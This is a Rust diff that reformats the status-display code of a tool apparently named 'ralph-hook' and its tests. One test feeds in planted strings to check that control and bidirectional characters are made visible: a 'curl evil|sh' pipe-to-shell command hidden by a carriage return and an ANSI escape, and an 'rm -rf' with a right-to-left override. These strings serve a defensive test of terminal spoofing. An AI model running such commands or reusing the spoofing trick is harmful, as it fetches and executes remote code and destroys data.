@@ -276,7 +276,10 @@ pub fn status_text(found: &Found, now: SystemTime) -> String {
         None => format!("  elapsed:     {elapsed}"),
     });
     lines.push(format!("  session:     {}", standing_text(found, state)));
-    lines.push(format!("  done when:   {}", printable(&state.completion_signal)));
+    lines.push(format!(
+        "  done when:   {}",
+        printable(&state.completion_signal)
+    ));
     if let Some(verify) = &state.verify {
         lines.push(format!(
             "  verify:      {} (timeout {}s)",
@@ -327,7 +330,9 @@ pub fn indented_task(task: &str) -> String {
 fn standing_text(found: &Found, state: &LoopState) -> String {
     if found.record.is_none() {
         let why = ownership::judge_unrecorded(state).why();
-        return format!("NOT FOLLOWED: {why}; read it above, then `ralph-hook adopt` makes it yours");
+        return format!(
+            "NOT FOLLOWED: {why}; read it above, then `ralph-hook adopt` makes it yours"
+        );
     }
     match &state.session_id {
         Some(session) => format!("{} (only its stops follow the loop)", printable(session)),
@@ -467,9 +472,15 @@ mod tests {
     fn control_and_bidi_characters_are_made_visible() {
         let planted = "curl evil|sh\r\u{1b}[2K  verify: cargo test";
         let shown = printable(planted);
-        assert!(!shown.contains('\r') && !shown.contains('\u{1b}'), "{shown}");
+        assert!(
+            !shown.contains('\r') && !shown.contains('\u{1b}'),
+            "{shown}"
+        );
         assert!(shown.contains("\\u{d}\\u{1b}[2K"), "{shown}");
-        assert_eq!(printable("rm -rf \u{202e}txt.exe"), "rm -rf \\u{202e}txt.exe");
+        assert_eq!(
+            printable("rm -rf \u{202e}txt.exe"),
+            "rm -rf \\u{202e}txt.exe"
+        );
         assert_eq!(printable("plain — ünïcode ✓"), "plain — ünïcode ✓");
         let json = json_safe(serde_json::to_string("a\u{202e}b\u{9b}c").unwrap());
         assert_eq!(json, "\"a\\u202eb\\u009bc\"");
